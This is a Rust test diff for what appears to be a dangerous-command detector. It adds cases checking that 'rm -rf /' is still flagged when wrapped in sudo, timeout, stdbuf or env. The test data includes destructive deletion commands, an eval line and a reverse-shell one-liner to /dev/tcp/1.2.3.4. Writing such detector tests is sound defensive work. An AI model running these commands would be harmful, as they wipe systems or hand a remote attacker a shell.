@@ -217,6 +217,15 @@ mod tests {
             "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
             &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
         );
+        for wrapped in [
+            "sudo --user root rm -rf /",
+            "sudo --user=root --chdir /tmp rm -rf /",
+            "timeout --signal KILL 5 rm -rf /",
+            "stdbuf -o L rm -rf /",
+            "env --unset HOME rm -rf /",
+        ] {
+            check(wrapped, &[("REMOVE_ALL", wrapped)]);
+        }
         check("eval $x", &[("EVAL", "eval $x")]);
         check(
             "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
